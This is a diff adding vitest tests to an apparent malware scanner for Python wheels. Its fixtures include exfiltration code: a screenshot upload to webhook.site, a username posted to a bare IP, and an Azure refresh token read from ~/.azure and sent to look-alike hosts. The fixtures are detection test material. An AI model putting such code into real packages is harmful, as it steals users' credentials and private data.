@@ -1,4 +1,5 @@
 import { expect, test } from 'vitest';
+import type { Finding } from '../../../src/analysis/report/finding.ts';
 import { inspect, python, sdist, wheel } from '../../support/inspect.ts';
 
 test('the host name that is posted at install is malware at the line of the request', async () => {
@@ -604,4 +605,131 @@ test('secrets that are enciphered or put into settings with a long key are sent 
   });
 
   expect(await inspect('exfiltration', file)).toEqual([]);
+});
+
+test('a command that shows its user the link of the picture it put up is for a person to judge; who looks at no link takes it', async () => {
+  const of = (lines: readonly string[]): Promise<readonly Finding[]> =>
+    inspect(
+      'exfiltration',
+      wheel({
+        'pkg/__init__.py': '',
+        'pkg/__main__.py': python(
+          'import io, requests',
+          'from PIL import ImageGrab',
+          'kept = io.BytesIO()',
+          "ImageGrab.grab().save(kept, format='PNG')",
+          ...lines,
+        ),
+      }),
+    );
+
+  expect(
+    await of([
+      "answer = requests.post('https://api.imgur.com/3/upload', files={'f': kept.getvalue()})",
+      'print(answer.json())',
+    ]),
+  ).toMatchObject([{ class: 'suspicious', score: 6, context: 'entry-point' }]);
+  expect(await of(["requests.post('https://api.imgur.com/3/upload', files={'f': kept.getvalue()})"])).toMatchObject([
+    { class: 'malware', score: 10 },
+  ]);
+  expect(
+    await of([
+      "answer = requests.post('https://webhook.site/1b2c', files={'f': kept.getvalue()})",
+      'print(answer.text)',
+    ]),
+  ).toMatchObject([{ class: 'malware', score: 10 }]);
+});
+
+test('a licence that is asked for with a digest of the machine’s names stays below quarantine, one with the names beside it does not', async () => {
+  const of = (fields: string): Promise<readonly Finding[]> =>
+    inspect(
+      'exfiltration',
+      wheel({
+        'pkg/licence.py': python(
+          'import hashlib, platform, requests',
+          'def machine():',
+          "    return hashlib.sha256(f'{platform.node()}-{platform.machine()}'.encode()).hexdigest()[:16]",
+          'def validate(key):',
+          `    answer = requests.post('https://licences-of-tool.onrender.com/v1', json={${fields}}, timeout=10)`,
+          '    return answer.json()',
+        ),
+      }),
+    );
+
+  expect(await of("'key': key, 'machine': machine()")).toMatchObject([{ class: 'suspicious', score: 2 }]);
+  const many = Array.from({ length: 60 }, (_, i) => `'k${i}': ${i}`).join(', ');
+  for (const fields of [
+    "'key': key, 'machine': machine(), 'name': platform.node()",
+    `'machine': machine(), ${many}, 'name': platform.node()`,
+  ])
+    expect(await of(fields)).toMatchObject([{ class: 'malware', score: 9 }]);
+});
+
+test('a device that reports to a bare address by the number of its network card is suspicious, by the name of its user malware', async () => {
+  const of = (name: string): Promise<readonly Finding[]> =>
+    inspect(
+      'exfiltration',
+      wheel({
+        'pkg/robot.py': python(
+          'import getpass, requests, uuid',
+          'def online():',
+          '    mac = uuid.UUID(int=uuid.getnode()).hex[-12:]',
+          `    requests.post('http://203.0.113.20:8081/status', json={'mac': mac, 'name': ${name}})`,
+        ),
+      }),
+    );
+
+  expect(await of("'robot'")).toMatchObject([{ class: 'suspicious', score: 6 }]);
+  expect(await of('getpass.getuser()')).toMatchObject([{ class: 'malware', score: 9 }]);
+});
+
+test('tokens that are changed at the sign-in of their vendor go to nobody else; at another host, or behind its name, they do', async () => {
+  const of = (url: string, headers = '{}'): Promise<readonly Finding[]> =>
+    inspect(
+      'exfiltration',
+      wheel({
+        'pkg/login.py': python(
+          'import json, os',
+          'from urllib.parse import urlencode',
+          'from urllib.request import Request, urlopen',
+          'def refreshed():',
+          "    with open(os.path.expanduser('~/.azure/accessTokens.json')) as f:",
+          '        kept = json.load(f)',
+          "    body = urlencode({'refresh_token': kept[0]['refreshToken']}).encode()",
+          `    return json.loads(urlopen(Request('${url}', body, ${headers})).read())`,
+        ),
+      }),
+    );
+
+  expect(await of('https://login.microsoftonline.com/common/oauth2/token')).toMatchObject([
+    { class: 'note', score: 1 },
+  ]);
+  expect(await of('https://login.tokens.invalid/common/oauth2/token')).toMatchObject([
+    { class: 'suspicious', score: 6 },
+  ]);
+  expect(await of('https://login.microsoftonline.com.tokens.invalid/token')).toMatchObject([{ score: 6 }]);
+});
+
+test('files that are kept with a paste service under its user’s own key are the user’s; a key of the code is the author’s', async () => {
+  const of = (key: string, url = 'https://api.jsonbin.io/v3/b'): Promise<readonly Finding[]> =>
+    inspect(
+      'exfiltration',
+      wheel({
+        'pkg/sync.py': python(
+          'import os, requests, subprocess',
+          'def keep(master_key):',
+          "    listed = subprocess.run(['ls', '-R', '/srv'], capture_output=True).stdout",
+          `    return requests.post('${url}', json={'l': listed}, headers={'X-Master-Key': ${key}}).json()`,
+        ),
+      }),
+    );
+
+  expect(await of('master_key')).toEqual([]);
+  expect(await of("os.environ['BIN_KEY']")).toEqual([]);
+  for (const [key, url] of [
+    ["'$2b$10$abcdefghijklmnopqrstuv'", undefined],
+    ["os.environ.get('BIN_KEY', '$2b$10$abcdefghijklmnopqrstuv')", undefined],
+    ['master_key', 'https://paste.rs/'],
+  ] as const)
+    expect(await of(key, url)).toMatchObject([{ class: 'suspicious', score: 5 }]);
 });
